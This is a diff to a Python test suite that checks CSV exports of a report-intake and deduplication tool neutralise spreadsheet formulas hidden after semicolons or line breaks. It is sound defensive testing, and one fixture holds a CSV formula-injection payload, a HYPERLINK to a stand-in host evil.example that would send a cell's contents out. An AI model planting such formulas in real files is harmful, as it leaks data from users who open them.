@@ -6,12 +6,29 @@
   ceiling, the proof of work), since those count POSTs only. A HEAD answered 422 with an empty form;
   a flood of HEADs carrying photos spent the minute's budget of image pixels, so that families'
   photos sent meanwhile had their viewing copies deferred. HEAD is now the GET page, body unread.
+- The CSV files we write for spreadsheets (the import page's dry-run report, `flask dedup csv`'s
+  pairs.csv and clusters.csv, an export's CSV) neutralised a cell that starts a formula, but not a
+  formula that starts after a semicolon or a line break inside a cell. Excel opens a .csv with the
+  list separator of the computer's region, a semicolon in Turkish, Russian, German and most of
+  Europe, and there quotation marks count only at the start of a piece: a list's header
+  `Born;=HYPERLINK(...)` or a report id `R7;=1+1` came out as a cell of its own starting with
+  `=`, a live formula. Every such piece now gets the apostrophe a whole cell gets.
 """
 
 from __future__ import annotations
 
+import csv
 import io
+import re
+from pathlib import Path
 
+import pytest
+from click.testing import CliRunner
+
+from intake.cli.dedup import dedup_cli
+from tests.dedup_population import write_csv
+from tests.unit.imports.test_store import HEADERS, ROWS, csv_bytes
+from tests.web.admin.test_imports_page import admin_client, confirm, stored as imported, upload  # noqa: F401
 from tests.web.public.pages import relative, report_form, text_of
 from tests.web.public.test_image_budget import SIDE, photo, send_solved, stored
 
@@ -31,3 +48,55 @@ def test_a_head_of_the_report_form_is_its_get_and_decodes_nothing(app):
     rows = stored(app)
     assert sorted(rows) == ["family.jpg"]
     assert rows["family.jpg"][3] is not None, "the family's photo lost its viewing copy to HEAD requests"
+
+
+FORMULA = ("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠")
+# Where a spreadsheet whose list separator is ";" may start a cell: the file's start, after a
+# semicolon, after a line break. A quotation mark opens a quoted value only at a piece's start; every
+# line break is taken as one, to be safe (inside such a quoted value, it is not).
+PIECE_START = re.compile(r'(?:^|[;\r\n]) *"?')
+
+
+def live_formulas(text: str) -> list[str]:
+    """The pieces of a CSV's text that such a spreadsheet would run as formulas."""
+    return [text[m.end():m.end() + 30] for m in PIECE_START.finditer(text) if text[m.end():].startswith(FORMULA)]
+
+
+def test_live_formulas_finds_what_a_semicolon_spreadsheet_runs():
+    assert live_formulas('a,b\r\n1,"x;=1+1"\r\n') == ['=1+1"\r\n']
+    assert live_formulas('"=1+1",b') == ['=1+1",b']
+    assert live_formulas("a,\"x\n@SUM(1)\"") == ['@SUM(1)"']
+    assert live_formulas("'=1+1,x;'=2,\"y\n'+3\"") == []
+
+
+def test_the_import_report_runs_no_formula_in_a_semicolon_spreadsheet(app, admin_client):  # noqa: F811
+    client, _ = admin_client
+    headers = [HEADERS[0], 'Born;=HYPERLINK("http://evil.example/?"&A1,"click")', *HEADERS[2:]]
+    rows = [[r[0], "03/04/1985", *r[2:]] for r in ROWS]
+    html = upload(client, csv_bytes(rows, headers)).get_data(as_text=True)
+    report = confirm(client, html, "report", ["name", "birth_date", "id_number", "home_county", "status", "testimony"])
+    assert report.status_code == 200 and report.mimetype == "text/csv"
+    text = report.get_data(as_text=True).lstrip("\ufeff")
+    assert "HYPERLINK" in text, "the header is named in a problem"
+    assert live_formulas(text) == []
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert 'Born;\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells  # still read as one cell
+    assert imported(app) == 0
+
+
+@pytest.mark.parametrize("separator", [";", ";  ", "\n", "\r\n"])
+def test_dedup_csv_writes_no_formula_a_semicolon_spreadsheet_runs(tmp_path, monkeypatch, separator):
+    monkeypatch.chdir(tmp_path)
+    hostile = [f"R{n}{separator}{formula}" for n, formula in enumerate(["=1+1", "+1+1", "-2+3", "@SUM(1)", "＝1"])]
+    rows = [{"report_id": rid, "given_name": "Ablimit", "father_name": "Tursun", "gender": "male",
+             "birth_date": "1984-06-17", "home_place": "Kashgar", "chinese_id": "653101198406171232"}
+            for rid in hostile]
+    write_csv(str(tmp_path / "list.csv"), rows)
+    result = CliRunner().invoke(dedup_cli, ["csv", "list.csv", "--out", "out"])
+    assert result.exit_code == 0, result.output
+    for name in ("pairs.csv", "clusters.csv"):
+        text = Path(tmp_path / "out" / name).read_text("utf-8")
+        assert live_formulas(text) == [], name
+    with (tmp_path / "out" / "clusters.csv").open(newline="", encoding="utf-8") as handle:
+        ids = {row["report_id"] for row in csv.DictReader(handle)}
+    assert {i.replace("'", "") for i in ids} == set(hostile)  # every id there, recognisably
